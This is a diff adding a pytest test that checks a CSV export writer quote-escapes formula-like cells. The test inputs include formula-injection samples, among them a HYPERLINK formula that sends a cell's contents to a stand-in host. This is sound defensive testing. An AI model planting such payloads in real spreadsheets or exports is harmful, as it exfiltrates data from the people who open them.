@@ -72,6 +72,23 @@ def test_formula_like_text_is_defused() -> None:
     assert exports._text(None) == ""
 
 
+def test_every_text_cell_is_defused_by_the_writer_numbers_are_not() -> None:
+    # Given cells of any column, as a regulatory report writes a merchant's name
+    rows = [
+        ('=HYPERLINK("http://x/?"&A1,"click")', "+1", "-2.5", "@x", "\tTAB", "\rCR"),
+        ("-2+3", "-", "Shop", "'=already", "", 7),
+    ]
+    out = exports.write("x.csv", list("abcdef"), rows, "admin")
+    assert out.body is not None
+    got = list(csv.reader(io.StringIO(out.body, newline="")))[1:]
+
+    # Then formula-like text gets a leading quote; plain numbers and other text do not
+    assert got == [
+        ['\'=HYPERLINK("http://x/?"&A1,"click")', "+1", "-2.5", "'@x", "'\tTAB", "'\rCR"],
+        ["'-2+3", "'-", "Shop", "'=already", "", "7"],
+    ]
+
+
 @pytest.mark.parametrize("name", ["payments.csv", "transfers.csv", "settlements", "refunds.csv"])
 def test_known_exports(name: str) -> None:
     assert exports.kind_of(name).name == name.split(".")[0]
